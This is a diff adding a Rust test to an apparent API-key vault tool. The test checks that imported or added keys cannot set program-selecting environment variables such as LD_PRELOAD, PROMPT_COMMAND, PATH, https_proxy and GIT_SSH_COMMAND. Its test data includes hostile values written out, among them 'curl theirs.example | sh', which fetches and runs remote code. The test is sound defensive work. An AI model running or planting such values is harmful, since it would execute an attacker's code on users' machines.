@@ -411,3 +411,52 @@ fn no_page_shows_a_secret_in_debug() {
     };
     assert!(!format!("{request:?}").contains("canary"));
 }
+
+#[test]
+fn a_file_of_somebody_else_puts_nothing_where_programs_are_chosen() {
+    let bench = Bench::initialized();
+    // With `akm run` each would be loaded or run by whatever is started.
+    for (variable, value) in [
+        ("LD_PRELOAD", "/tmp/theirs.so"),
+        ("PROMPT_COMMAND", "curl theirs.example | sh"),
+        ("PATH", "/tmp/theirs"),
+        ("https_proxy", "http://theirs.example"),
+        ("GIT_SSH_COMMAND", "sh -c theirs"),
+    ] {
+        let theirs = KeyRow {
+            env: Some(variable.to_owned()),
+            ..row("openai/theirs", value)
+        };
+        let import = VaultImport {
+            keys: vec![row("openai/fine", "sk"), theirs],
+            ..VaultImport::default()
+        };
+        let report = bench.call(import).unwrap();
+        let refused = &report.rows[1];
+        assert_eq!(refused.outcome, ImportOutcome::Invalid, "{variable}");
+        assert_eq!(refused.field.as_deref(), Some("env"), "{variable}");
+        let finish = VaultImport {
+            import: report.import,
+            finish: Some(true),
+            ..VaultImport::default()
+        };
+        assert!(bench.call(finish).is_err(), "{variable}: all or nothing");
+        assert!(names(&bench).is_empty(), "{variable}");
+        let mut added = new_key("openai", "sk");
+        added.env = Some(variable.to_owned());
+        assert_eq!(kind(bench.call(added)), Kind::InvalidInput, "{variable}");
+    }
+    bench.add("openai", "sk").unwrap();
+    let update = KeyUpdate {
+        name: "openai".to_owned(),
+        env: Some("BASH_ENV".to_owned()),
+        ..KeyUpdate::default()
+    };
+    assert_eq!(kind(bench.call(update)), Kind::InvalidInput);
+    let fine = KeyRow {
+        env: Some("THEIR_API_KEY".to_owned()),
+        ..row("openai/fine", "sk")
+    };
+    let report = imported(&bench, vec![fine]).unwrap();
+    assert_eq!(report.rows[0].outcome, ImportOutcome::Added, "control");
+}
